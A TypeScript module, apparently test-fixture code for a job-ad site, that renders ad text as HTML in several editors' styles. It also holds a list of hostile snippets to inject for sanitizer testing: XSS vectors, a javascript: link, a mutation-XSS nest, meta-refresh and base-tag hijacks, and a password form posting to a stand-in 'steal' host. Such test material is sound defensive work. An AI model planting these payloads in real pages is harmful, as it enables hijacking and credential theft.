import type { Block } from './ad-blocks.ts'
import type { Random } from './random.ts'

/** The text as plain lines. */
export function plain(blocks: readonly Block[]): string {
  return blocks
    .map((block) => (block.kind === 'list' ? block.items.map((item) => `• ${item}`).join('\n') : block.text))
    .join('\n\n')
}

type Style = (block: Block) => string

/** As the editors of different boards leave it: proper lists, runs of breaks, spans out of a word processor. */
const styles: readonly Style[] = [
  (block) =>
    block.kind === 'heading'
      ? `<p><strong>${escaped(block.text)}</strong></p>`
      : block.kind === 'list'
        ? `<ul>${block.items.map((item) => `<li>${escaped(item)}</li>`).join('')}</ul>`
        : `<p>${escaped(block.text)}</p>`,
  (block) =>
    block.kind === 'heading'
      ? `<strong>${escaped(block.text)}:</strong><br />`
      : block.kind === 'list'
        ? `${block.items.map((item) => `• ${escaped(item)}`).join('<br />')}<br /><br />`
        : `${escaped(block.text)}<br /><br />`,
  (block) =>
    block.kind === 'heading'
      ? `<h3>${escaped(block.text)}</h3>`
      : block.kind === 'list'
        ? `<ul>\n${block.items.map((item) => `  <li><p>${escaped(item)}</p></li>`).join('\n')}\n</ul>`
        : `<p>${named(escaped(block.text))}</p>\n`,
  (block) =>
    block.kind === 'list'
      ? `<div>${block.items.map((item) => `- ${escaped(item)}`).join('</div><div>')}</div><div>&nbsp;</div>`
      : `<div>${block.kind === 'heading' ? `<b><u>${escaped(block.text)}</u></b>` : escaped(block.text)}</div><div>&nbsp;</div>`,
  (block) =>
    block.kind === 'list'
      ? block.items
          .map((item) => word(`<span style="font-family:Symbol">·&nbsp;&nbsp;</span>${escaped(item)}`))
          .join('')
      : word(block.kind === 'heading' ? `<b>${escaped(block.text)}</b>` : named(escaped(block.text))),
]

export function html(blocks: readonly Block[], random: Random): string {
  return blocks.map(random.pick(styles)).join('')
}

/** What no page may ever run or show: an ad of somebody who means harm, or whose editor broke. */
const hostile: readonly string[] = [
  '<script>document.title="taken over"</script>',
  '<img src="x" onerror="document.title=\'taken over\'">',
  '<svg/onload=document.body.remove()>',
  '<a href="javascript:document.body.remove()">Apply here</a>',
  '<a href=" java\tscript:alert(1)">Read more</a>',
  '<iframe src="https://example.test/frame"></iframe>',
  '<style>*{display:none!important}</style>',
  '<form action="https://example.test/steal"><input name="password" type="password"><button>Log in to apply</button></form>',
  '<div style="position:fixed;inset:0;background:#fff;z-index:99999">Call our premium line</div>',
  '<b><i><ul><li>Never closed',
  '</div></div></section></main></body></html>',
  '<p>Broken entities: &nbsp &amp;amp;amp; &#x1F4A9 &#99999999; &notanentity; 5 < 6 & 7 > 3</p>',
  '<!-- <p>never closed comment',
  '<meta http-equiv="refresh" content="0;url=https://example.test/">',
  '<base href="https://example.test/">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<p>\u202Eyllaer siht daer\u202C and \u200Bhidden\u200B words</p>',
  '<img src="https://example.test/pixel.gif" width="1" height="1"><object data="https://example.test/x"></object>',
]

export function hostileHtml(text: string, random: Random): string {
  const [first, second] = [random.pick(hostile), random.pick(hostile)]
  const middle = text.indexOf('>', Math.floor(text.length / 2)) + 1
  return text.slice(0, middle) + first + text.slice(middle) + second
}

function escaped(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')
}

/** Named entities, where some editors put them. */
function named(text: string): string {
  return text.replaceAll('£', '&pound;').replaceAll('’', '&rsquo;').replaceAll('–', '&ndash;').replaceAll('€', '&euro;')
}

function word(inner: string): string {
  return `<p class="MsoNormal" style="margin-bottom:0cm"><span style="font-size:11.0pt">${inner}<o:p></o:p></span></p>`
}
